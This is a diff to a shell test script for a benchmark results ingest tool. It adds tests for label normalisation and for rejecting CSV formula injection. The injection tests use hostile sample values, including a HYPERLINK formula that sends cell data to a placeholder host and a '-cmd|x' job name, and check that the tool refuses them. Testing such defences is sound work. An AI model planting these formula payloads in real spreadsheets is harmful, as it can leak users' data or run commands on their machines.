@@ -55,8 +55,8 @@ expect_err_line "with a warning naming both modes" \
 mkdir -p "$TMP/b8"
 cp -r samples/zfs-series/24.04 "$TMP/b8/run"
 E=$(cd "$(dirname "$ENCBENCH")" && pwd)/$(basename "$ENCBENCH")
-(cd "$TMP/b8" && "$E" ingest run/none/dd-write-r1.txt run > a.csv 2> a.err); a=$?
-(cd "$TMP/b8" && "$E" ingest run run/none/dd-write-r1.txt > b.csv 2> b.err); b=$?
+(cd "$TMP/b8" && "$E" ingest -o a.csv run/none/dd-write-r1.txt run 2> a.err); a=$?
+(cd "$TMP/b8" && "$E" ingest -o b.csv run run/none/dd-write-r1.txt 2> b.err); b=$?
 rc=$a
 [ "$a" -eq 0 ] && [ "$b" -eq 0 ] && pass "ingest FILE DIR and ingest DIR FILE both exit 0" ||
 	fail "ingest FILE DIR and ingest DIR FILE both exit 0 (exits $a and $b)"
@@ -87,3 +87,83 @@ eb ingest --unit MB/s tests/data/sheet/two-release-de.csv
 expect_rc "a spreadsheet read with --unit exits 0" 0
 grep -q "changed nothing" "$TMP/err" && fail "a spreadsheet's --unit is not warned of" ||
 	pass "a spreadsheet's --unit is not warned of"
+
+# ---- D7: release and mode spelt as a sheet spells them
+
+cp "$DD" "$TMP/dd.txt"	# outside any run folder: no label of its own
+eb ingest --set op=write --set "release=Ubuntu 24.04" "$TMP/dd.txt"
+[ "$(sed -n 2p "$TMP/out" | cut -d, -f1)" = 24.04 ] &&
+	pass "--set release='Ubuntu 24.04' is 24.04, as a sheet's group row" ||
+	fail "--set release='Ubuntu 24.04' is 24.04, as a sheet's group row"
+expect_err_line "with a note" \
+	"encbench: note: --set release='Ubuntu 24.04' is read as release 24.04, as every input spells it"
+eb ingest -q --set op=write --set "release=24.04 LTS" "$TMP/dd.txt"
+[ "$(sed -n 2p "$TMP/out" | cut -d, -f1)" = 24.04 ] &&
+	pass "--set release='24.04 LTS' is 24.04" || fail "--set release='24.04 LTS' is 24.04"
+eb ingest --set op=write --set "mode=AES-256-GCM (no AES-NI)" "$TMP/dd.txt"
+[ "$(sed -n 2p "$TMP/out" | cut -d, -f3,4)" = no-aesni,aes-256-gcm ] &&
+	pass "--set mode='AES-256-GCM (no AES-NI)' is aes-256-gcm in config no-aesni" ||
+	fail "--set mode='AES-256-GCM (no AES-NI)' is aes-256-gcm in config no-aesni"
+expect_err_line "with a note" \
+	"encbench: note: --set mode='AES-256-GCM (no AES-NI)' is read as mode aes-256-gcm in config no-aesni, as a sheet's mode cell is"
+eb ingest -q --set op=write --set "mode=AES-256-GCM (no AES-NI)" --set "config=No AES-NI" "$TMP/dd.txt"
+[ "$rc" -eq 0 ] && [ "$(sed -n 2p "$TMP/out" | cut -d, -f3,4)" = no-aesni,aes-256-gcm ] &&
+	pass "and with a --set config that agrees" || fail "and with a --set config that agrees"
+eb ingest --set op=write --set "mode=AES-256-GCM (no AES-NI)" --set "config=2 cores" "$TMP/dd.txt"
+expect_rc "a --set config that contradicts the mode's is a usage error" 64
+expect_err_line "naming both" \
+	"encbench: error: --set mode='AES-256-GCM (no AES-NI)' is the mode aes-256-gcm in the configuration no-aesni, but --set config gives '2-cores': give the configuration once"
+eb ingest --set op=write --set "mode=AES-256-GCM (compression on)" "$TMP/dd.txt"
+expect_rc "a mode with words that are neither mode nor config is a usage error" 64
+expect_err_line "naming the words" \
+	"encbench: error: --set mode: 'AES-256-GCM (compression on)' is the mode aes-256-gcm, but also says 'compression', which is no mode or configuration encbench reads; give the mode alone (and a configuration with --set config)"
+eb ingest --set op=write --set "mode=Serpent XTS" "$TMP/dd.txt"
+[ "$rc" -eq 0 ] && [ "$(sed -n 2p "$TMP/out" | cut -d, -f4)" = serpent-xts ] &&
+	pass "a mode encbench does not know is kept as written" ||
+	fail "a mode encbench does not know is kept as written"
+expect_err_line "with a note, as a sheet's" \
+	"encbench: note: --set mode=serpent-xts: a mode encbench does not know, kept as written"
+
+# ---- D13: no label a spreadsheet would run as a formula
+
+for v in 'host==1+2' 'host=@SUM(A1)' 'host=-cmd' 'workload=+x' 'release= =A1'; do
+	eb ingest -o "$TMP/f.csv" --set op=write --set "$v" "$TMP/dd.txt"
+	shown=$(printf '%s' "${v#*=}" | sed 's/^ *//' | tr 'A-Z' 'a-z')
+	[ "${v%%=*}" = workload ] && shown=${v#*=}
+	expect_rc "--set $v is a usage error" 64
+	expect_err_line "naming the label and the rule" \
+		"encbench: error: --set ${v%%=*}: '$shown' begins with '$(printf '%.1s' "$shown")', which a spreadsheet opening results.csv would run as a formula: no label may begin with =, +, - or @"
+	[ -e "$TMP/f.csv" ] && fail "and writes nothing" || pass "and writes nothing"
+done
+printf 'Mode,DD Write (MB/s)\nNone,1000\n"=HYPERLINK(""http://x.example/""&A1,""ok"")",800\n' > "$TMP/formula.csv"
+eb ingest -o "$TMP/f.csv" "$TMP/formula.csv"
+expect_rc "a sheet's mode cell that is a formula is a data error" 65
+expect_err_line "located at the row's cell" \
+	"$TMP/formula.csv:3:2: error: mode '=hyperlink(\"http://x.example/\"&a1,\"ok\")' begins with '=', which a spreadsheet opening results.csv would run as a formula: no label may begin with =, +, - or @ (give another with --set mode=NAME)"
+[ -e "$TMP/f.csv" ] && fail "and writes nothing" || pass "and writes nothing"
+sed 2d "$TMP/formula.csv" > "$TMP/formula1.csv"
+eb ingest -q -o "$TMP/f.csv" --set mode=aes-256-gcm "$TMP/formula1.csv"
+expect_rc "--set mode gives it a name that can be written" 0
+sed 's/"jobname": "[^"]*"/"jobname": "-cmd|x"/' "$FIO" > "$TMP/fio.json"
+eb ingest --set mode=none "$TMP/fio.json"
+expect_rc "a fio job name that a spreadsheet would run is a data error" 65
+expect_err_line "at the job's line" \
+	"$TMP/fio.json:28: error: job '-cmd|x' begins with '-', which a spreadsheet opening results.csv would run as a formula: no label may begin with =, +, - or @ (rename it in the input)"
+printf '%s\n' "release,host,config,mode,tool,job,workload,op,block_size,metric,unit,rep,value,source" \
+	"24.04,h,,@x,dd,dd,,write,,bw,B/s,1,100,a.txt:3" "24.04,h,,none,dd,dd,,write,,bw,B/s,1,90,=cmd" \
+	> "$TMP/formula-results.csv"
+eb ingest "$TMP/formula-results.csv"
+expect_rc "a results.csv holding such a label and source is a data error" 65
+expect_err_line "the label, at the line of the record it came from" \
+	"a.txt:3: error: mode '@x' begins with '@', which a spreadsheet opening results.csv would run as a formula: no label may begin with =, +, - or @ (give another with --set mode=NAME)"
+expect_err_line "the source, at the results.csv" \
+	"$TMP/formula-results.csv: error: source '=cmd' begins with '=', which a spreadsheet opening results.csv would run as a formula: no source may begin with =, +, - or @ (a path typed so reads as ./PATH)"
+# Every other label, commas, quotes and '=' inside included, reads back.
+eb ingest -o "$TMP/rt.csv" --set op=write --set 'host=Büro "A", x=2' --set 'workload=a,"b"=c' \
+	--set "release=Ubuntu 24.04" --set "mode=AES-256-GCM (no AES-NI)" "$TMP/dd.txt"
+eb ingest -o "$TMP/rt2.csv" "$TMP/rt.csv"
+[ "$(sed -n 2p "$TMP/rt.csv")" = "24.04,\"büro-\"\"a\"\",-x=2\",no-aesni,aes-256-gcm,dd,dd,\"a,\"\"b\"\"=c\",write,1048576,bw,B/s,1,1603042368.4151592,$TMP/dd.txt:3" ] &&
+	pass "labels with commas, quotes and '=' are written quoted" ||
+	fail "labels with commas, quotes and '=' are written quoted (got $(sed -n 2p "$TMP/rt.csv"))"
+cmp -s "$TMP/rt.csv" "$TMP/rt2.csv" && pass "and results.csv read back gives the same records" ||
+	fail "and results.csv read back gives the same records"
